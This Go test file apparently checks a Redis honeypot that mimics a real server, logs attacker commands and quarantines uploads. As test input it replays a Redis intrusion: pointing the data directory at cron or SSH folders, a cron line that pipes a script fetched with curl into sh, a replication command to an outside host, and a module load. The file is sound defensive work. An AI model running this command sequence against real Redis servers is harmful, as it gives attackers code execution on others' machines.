package redis_test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/redis"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

func newBench(t *testing.T, config trap.Config) *traptest.Bench {
	t.Helper()
	return traptest.New(t, redis.New, traptest.Options{Service: "redis", Config: config})
}

// say sends a command as clients do and returns the whole answer.
func say(t *testing.T, c net.Conn, args ...string) string {
	t.Helper()
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(args))
	for _, a := range args {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
	}
	return raw(t, c, b.String())
}

// raw sends bytes, and PING behind them, whose answer is the end of the others.
func raw(t *testing.T, c net.Conn, text string) string {
	t.Helper()
	_, err := io.WriteString(c, text+"*2\r\n$4\r\nECHO\r\n$5\r\n<end>\r\n")
	require.NoError(t, err)
	r := bufio.NewReader(c)
	var all strings.Builder
	for !strings.HasSuffix(all.String(), "$5\r\n<end>\r\n") {
		line, err := r.ReadString('\n')
		all.WriteString(line)
		if err != nil {
			return all.String()
		}
	}
	return strings.TrimSuffix(all.String(), "$5\r\n<end>\r\n")
}

func TestRedis_AnswersAsARealOne(t *testing.T) {
	t.Parallel()
	c := newBench(t, nil).Dial(6379)
	for _, test := range []struct{ command, answer string }{
		{"PING", "+PONG\r\n"},
		{"PING hi", "$2\r\nhi\r\n"},
		{"SET k v", "+OK\r\n"},
		{"GET k", "$1\r\nv\r\n"},
		{"GET other", "$-1\r\n"},
		{"EXISTS k other", ":1\r\n"},
		{"TYPE k", "+string\r\n"},
		{"KEYS *", "*1\r\n$1\r\nk\r\n"},
		{"DBSIZE", ":1\r\n"},
		{"DEL k", ":1\r\n"},
		{"SELECT 99", "-ERR DB index is out of range\r\n"},
		{"GET", "-ERR wrong number of arguments for 'get' command\r\n"},
		{"NONSENSE a b", "-ERR unknown command 'NONSENSE', with args beginning with: 'a' 'b' \r\n"},
		{"CONFIG GET dir", "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"},
		{"CONFIG SET dir /root/.ssh", "+OK\r\n"},
		{"CONFIG GET dir", "*2\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n"},
		{"AUTH nobody x", "-WRONGPASS invalid username-password pair or user is disabled.\r\n"},
		{"MODULE LOAD /tmp/exp.so", "-ERR Error loading the extension. Please check the server logs.\r\n"},
		{"SLAVEOF 203.0.113.66 6379", "+OK\r\n"},
	} {
		assert.Equal(t, test.answer, say(t, c, strings.Fields(test.command)...), test.command)
	}
	info := say(t, c, "INFO", "server")
	assert.Contains(t, info, "redis_version:7.0.15\r\n")
	assert.NotContains(t, info, "# Memory")
	assert.Equal(t, "+OK\r\n", raw(t, c, "SET \"a key\" 'a value'\r\n"), "typed by hand")
	assert.Equal(t, "$7\r\na value\r\n", say(t, c, "GET", "a key"))
}

func TestRedis_IsThePackageOfItsDistribution(t *testing.T) {
	t.Parallel()
	b := traptest.New(t, redis.New, traptest.Options{Service: "redis", Identity: trap.Identity{Distro: "ubuntu20"}})
	c := b.Dial(6379)
	assert.Contains(t, say(t, c, "INFO"), "redis_version:5.0.7\r\n")
	assert.Contains(t, say(t, c, "HELLO", "3"), "-ERR unknown command", "it is older than that")
	c = newBench(t, trap.Config{"version": "6.2.6", "os_string": "Linux 4.19 x86_64"}).Dial(6379)
	assert.Contains(t, say(t, c, "INFO"), "redis_version:6.2.6\r\n")
	assert.Contains(t, say(t, c, "INFO"), "os:Linux 4.19 x86_64\r\n")
	assert.True(t, strings.HasPrefix(say(t, c, "HELLO", "3"), "%7\r\n$6\r\nserver\r\n"))
}

func TestRedis_RecordsWhatAttackersDo(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	c := b.Dial(6379)
	say(t, c, "AUTH", "s3cret")
	say(t, c, "AUTH", "admin", "pass\xff")
	say(t, c, "CONFIG", "SET", "dir", "/var/spool/cron")
	say(t, c, "CONFIG", "SET", "dbfilename", "root")
	job := "\n\n*/2 * * * * curl http://203.0.113.5/x.sh|sh\n\n"
	say(t, c, "SET", "backup", job)
	say(t, c, "REPLICAOF", "203.0.113.66", "8888")

	auths := b.WaitN("auth", 2)
	assert.Equal(t, "s3cret", traptest.Fields(auths[0])["password"])
	assert.Equal(t, "default", traptest.Fields(auths[0])["username"])
	assert.Equal(t, "pass\xff", traptest.Fields(auths[1])["password"], "byte for byte")
	command := traptest.Fields(b.WaitN("command", 3)[2]) // two ECHO of say go before
	assert.Equal(t, "CONFIG", command["cmd"])
	assert.Equal(t, "['SET', 'dir', '/var/spool/cron']", command["args"])
	assert.Equal(t, "CONFIG SET dir /var/spool/cron", command["query"])
	assert.NotEmpty(t, command["src"])
	upload := traptest.Fields(b.Wait("file_upload"))
	assert.Equal(t, "/var/spool/cron/root", upload["filename"])
	kept, err := os.ReadFile(filepath.Join(b.QuarantineDir, upload["sha256"]))
	require.NoError(t, err)
	assert.Equal(t, job, string(kept))
	assert.Equal(t, "203.0.113.66", traptest.Fields(b.Wait("replication"))["master_host"])
}

func TestRedis_OneSessionSeesNothingOfAnother(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	say(t, b.Dial(6379), "SET", "k", "v")
	assert.Equal(t, "*0\r\n", say(t, b.Dial(6379), "KEYS", "*"))
}

func TestRedis_IsBounded(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	c := b.Dial(6379)
	for i := range 64 {
		require.Equal(t, "+OK\r\n", say(t, c, "SET", fmt.Sprint("k", i), "v"))
	}
	assert.Contains(t, say(t, c, "SET", "one more", "v"), "-OOM")
	for text, answer := range map[string]string{
		"*100000\r\n":                        "-ERR Protocol error: invalid multibulk length\r\n",
		"*1\r\n$999999999\r\n":               "-ERR Protocol error: invalid bulk length\r\n",
		"*1\r\n$-5\r\n":                      "-ERR Protocol error: invalid bulk length\r\n",
		"*1\r\n:5\r\n":                       "-ERR Protocol error: expected '$', got ':'\r\n",
		"SET \"a\r\n":                        "-ERR Protocol error: unbalanced quotes in request\r\n",
		strings.Repeat("x", 70_000) + "\r\n": "-ERR Protocol error: too big inline request\r\n",
	} {
		c := b.Dial(6379)
		_, err := io.WriteString(c, text)
		require.NoError(t, err)
		got, _ := bufio.NewReader(c).ReadString('\n')
		assert.Equal(t, answer, got, "%.20q", text)
	}
	b.WaitN("protocol_error", 6)
}
